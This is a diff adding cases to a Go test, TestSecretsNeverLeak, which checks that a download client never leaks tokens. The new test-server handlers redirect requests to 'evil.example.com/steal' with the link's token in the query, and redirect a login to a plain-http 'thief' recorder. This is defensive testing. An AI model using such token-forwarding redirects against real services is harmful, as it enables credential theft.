@@ -83,6 +83,13 @@ func TestSecretsNeverLeak(t *testing.T) {
 		case strings.HasPrefix(r.URL.Path, "/safedownload/hang"):
 			<-r.Context().Done()
 			return
+		case strings.HasPrefix(r.URL.Path, "/safedownload/redirect"):
+			// To a host outside the package hosts, the link's token along.
+			http.Redirect(w, r, "https://evil.example.com/steal?"+r.URL.RawQuery, http.StatusTemporaryRedirect)
+			return
+		case strings.HasPrefix(r.URL.Path, "/safedownload/huge"):
+			w.Header().Set("Content-Length", "3000000000")
+			return
 		}
 		for i, answer := range answers {
 			if strings.Contains(r.URL.Path, machine(i)) {
@@ -92,8 +99,10 @@ func TestSecretsNeverLeak(t *testing.T) {
 		}
 		writeJSON(w, 200, `{"value":[]}`)
 	}, setupOpts{tokens: tokens, cfg: func(c *Config) {
-		c.Timeout = 100 * time.Millisecond
-		c.DownloadTimeout = 100 * time.Millisecond
+		// Short, for the paths that hang, but long enough for the others
+		// on a loaded machine.
+		c.Timeout = time.Second
+		c.DownloadTimeout = time.Second
 	}})
 	bundles = append(bundles, api)
 	ctx := context.Background()
@@ -113,6 +122,9 @@ func TestSecretsNeverLeak(t *testing.T) {
 		strings.Replace(uri, "/safedownload/", "/safedownload/forbidden/", 1),
 		strings.Replace(uri, "/safedownload/", "/safedownload/drop/", 1),
 		strings.Replace(uri, "/safedownload/", "/safedownload/hang/", 1),
+		strings.Replace(uri, "/safedownload/", "/safedownload/redirect/", 1),
+		strings.Replace(uri, "/safedownload/", "/safedownload/huge/", 1),
+		strings.Replace(uri, api.srv.URL, "https://evil.example.com", 1),
 		strings.Replace(uri, api.srv.URL, "http://storage.example.com", 1),
 		strings.Replace(uri, api.srv.URL, "ftp://storage.example.com", 1),
 		strings.Replace(uri, api.srv.URL, "https://[::1", 1),
@@ -138,6 +150,17 @@ func TestSecretsNeverLeak(t *testing.T) {
 	bundles = append(bundles, gateway)
 	_, err = gateway.client.GetMachine(ctx, testMachine)
 	errs = append(errs, err)
+	// The login endpoint redirects to a plain-http server: not followed.
+	thief := newRecorder(t, false)
+	redirected := setup(t, nil, setupOpts{tokens: &tokenServer{answer: func(w http.ResponseWriter, _ int64) {
+		http.Redirect(w, &http.Request{Method: http.MethodPost}, thief.srv.URL+"/steal", http.StatusTemporaryRedirect)
+	}}})
+	bundles = append(bundles, redirected)
+	_, err = redirected.client.GetMachine(ctx, testMachine)
+	errs = append(errs, err)
+	if thief.count() != 0 {
+		t.Errorf("the token redirect was followed: %q", thief.bodys)
+	}
 
 	var texts []string
 	for i, err := range errs {
